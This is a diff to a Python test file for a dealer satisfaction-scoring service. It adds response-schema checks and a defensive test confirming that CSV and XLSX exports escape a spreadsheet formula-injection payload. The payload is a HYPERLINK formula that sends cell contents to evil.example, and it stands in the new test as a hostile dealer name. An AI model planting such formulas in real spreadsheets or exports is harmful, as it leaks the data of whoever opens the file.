@@ -6,8 +6,10 @@ import io
 from openpyxl import load_workbook
 from sqlalchemy import event, insert
 
+from csi_shared.events import DealerRef
 from scoring.method import FACTORS
 from scoring.models import Dealer, DealerPeriod
+from scoring.schemas import Ranking
 
 from .conftest import Scoring, dealer_ref, response
 
@@ -34,6 +36,8 @@ async def test_the_ranking_keeps_small_samples_apart(scoring: Scoring) -> None:
         ("D001", 1, 1000.0, 100.0), ("D003", 2, 777.8, 50.0), ("D002", 3, 444.4, 0.0)
     ]  # fmt: skip
     assert [e["dealer_code"] for e in body["small_sample"]] == ["D004"]
+    # Built from plain rows and sent unvalidated for speed: the declared model must still describe it exactly.
+    assert Ranking.model_validate(body).model_dump(mode="json") == body
     # Every factor is listed; those without answers are null, and each index agrees with the dealer's card.
     d003 = body["ranked"][1]
     assert d003["factors"] == {**dict.fromkeys(FACTORS), Q: 777.8}
@@ -131,7 +135,25 @@ async def test_a_ranking_of_3000_dealers_reads_only_the_aggregates(scoring: Scor
     finally:
         event.remove(engine, "before_cursor_execute", capture)
     assert len(body["ranked"]) == 3000 and body["ranked"][0]["dealer_code"] == "X2999"
+    Ranking.model_validate(body)
     queries = [s for s in statements if s.lstrip().startswith("select")]
     assert len(queries) == 1
     assert "dealer_periods" in queries[0]
     assert not any(t in s for s in statements for t in ("responses_received", "item_aggregates", "factor_aggregates"))
+
+
+async def test_a_dealer_name_never_becomes_a_formula_in_an_export(scoring: Scoring) -> None:
+    # OWASP CSV injection: a name a spreadsheet would run is written as text, in CSV and XLSX alike.
+    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    hostile = DealerRef(dealer_code="D009", name=name, region="east", time_zone="Asia/Shanghai")
+    for n in range(2):
+        await scoring.feed(response(f"h{n}", {"sq_first_time": (Q, 9)}, dealer=hostile))
+    params = {"period": "2026-11"}
+    as_csv = await scoring.client.get("/v1/csi/export", params=params, headers=scoring.auth("admin"))
+    (row,) = list(csv.DictReader(io.StringIO(as_csv.text)))
+    assert row["dealer_name"] == "'" + name
+    as_xlsx = await scoring.client.get(
+        "/v1/csi/export", params={**params, "format": "xlsx"}, headers=scoring.auth("admin")
+    )
+    cell = load_workbook(io.BytesIO(as_xlsx.content)).active["D2"]
+    assert (cell.data_type, cell.value) == ("s", "'" + name)
